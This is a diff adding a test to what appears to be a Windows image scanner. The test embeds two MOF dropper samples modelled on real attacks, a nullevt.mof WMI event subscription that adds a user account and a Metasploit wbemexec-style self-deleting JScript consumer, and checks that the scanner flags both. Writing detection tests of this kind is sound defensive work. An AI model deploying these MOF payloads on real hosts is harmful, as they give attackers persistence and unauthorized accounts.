@@ -540,3 +540,98 @@ def test_mof_text_of_any_shape_never_raises() -> None:
         assert error is None or str(error).startswith(f"line {error.line}: ")
 
     run()
+
+
+# The two MOF droppers most often met in the wild, written here after their published shapes:
+# the "nullevt.mof" of MySQL privilege escalation (dropped into wbem\mof, which XP compiles on its
+# own) and Metasploit's wbemexec template (class declarations with qualifiers, a provider
+# registration, ``Instance of`` capitalised, a self-deleting JScript consumer).
+NULLEVT_MOF = r'''#pragma namespace("\\\\.\\root\\subscription")
+instance of __EventFilter as $EventFilter
+{
+EventNamespace = "Root\\Cimv2";
+Name  = "filtP2";
+Query = "Select * From __InstanceModificationEvent "
+"Where TargetInstance Isa \"Win32_LocalTime\" "
+"And TargetInstance.Second = 5";
+QueryLanguage = "WQL";
+};
+instance of ActiveScriptEventConsumer as $Consumer
+{
+Name = "consPCSV2";
+ScriptingEngine = "JScript";
+ScriptText =
+"var WSH = new ActiveXObject(\"WScript.Shell\")\nWSH.run(\"net.exe user support Crane2024! /add\")";
+};
+instance of __FilterToConsumerBinding
+{
+Consumer   = $Consumer;
+Filter = $EventFilter;
+};
+'''
+
+WBEMEXEC_MOF = r'''#pragma namespace("\\\\.\\root\\cimv2")
+class MyClass4711
+{
+      [key] string Name;
+};
+class ActiveScriptEventConsumer : __EventConsumer
+{
+     [key] string Name;
+      [not_null] string ScriptingEngine;
+      string ScriptFileName;
+      [template] string ScriptText;
+  uint32 KillTimeout;
+};
+instance of __Win32Provider as $P
+{
+    Name  = "ActiveScriptEventConsumer";
+    CLSID = "{266c72e7-62e8-11d1-ad89-00c04fd8fdff}";
+    PerUserInitialization = TRUE;
+};
+instance of __EventConsumerProviderRegistration
+{
+  Provider = $P;
+  ConsumerClassNames = {"ActiveScriptEventConsumer"};
+};
+Instance of ActiveScriptEventConsumer as $cons
+{
+  Name = "ASEC";
+  ScriptingEngine = "JScript";
+  ScriptText = "\ntry {var s = new ActiveXObject(\"Wscript.Shell\");\ns.Run(\"cranehelper.exe\");} catch (err) {};\nsv = GetObject(\"winmgmts:root\\\\cimv2\");try {sv.Delete(\"MyClass4711\");} catch (err) {};";
+};
+instance of __EventFilter as $Filt
+{
+  Name = "instfilt";
+  Query = "SELECT * FROM __InstanceCreationEvent WHERE TargetInstance.__class = \"MyClass4711\"";
+  QueryLanguage = "WQL";
+};
+instance of __FilterToConsumerBinding as $FtoC
+{
+  Consumer = $cons;
+  Filter = $Filt;
+};
+instance of MyClass4711 as $MyClass
+{
+  Name = "ClassConsumer";
+};
+'''
+
+
+def test_the_common_mof_droppers_are_found(tmp_path: Path) -> None:
+    root = minimal_windows(tmp_path / "C")
+    good = root / "Windows/System32/wbem/mof/good"
+    good.mkdir(parents=True)
+    (good / "nullevt.mof").write_text(NULLEVT_MOF)
+    (root / "Windows/System32/wbem/mof/wbemexec.mof").write_text(WBEMEXEC_MOF)
+    result = scan_image(root, workers=1, policy=STS07)
+    found = _wmi(result)
+    assert set(found) == {"consPCSV2", "ASEC"}
+    nullevt, asec = found["consPCSV2"].evidence[0], found["ASEC"].evidence[0]
+    assert found["consPCSV2"].severity == Severity.HIGH and nullevt.line == 18
+    assert nullevt.values["query"] == ('Select * From __InstanceModificationEvent Where TargetInstance Isa '
+                                       '"Win32_LocalTime" And TargetInstance.Second = 5')
+    assert 'WSH.run("net.exe user support Crane2024! /add")' in str(nullevt.values["script"])
+    assert found["ASEC"].severity == Severity.HIGH and asec.line == 37 and asec.values["filter"] == "instfilt"
+    assert 's.Run("cranehelper.exe")' in str(asec.values["script"]) and "winmgmts:root\\\\cimv2" in str(asec.values["script"])
+    assert result.warnings == ()
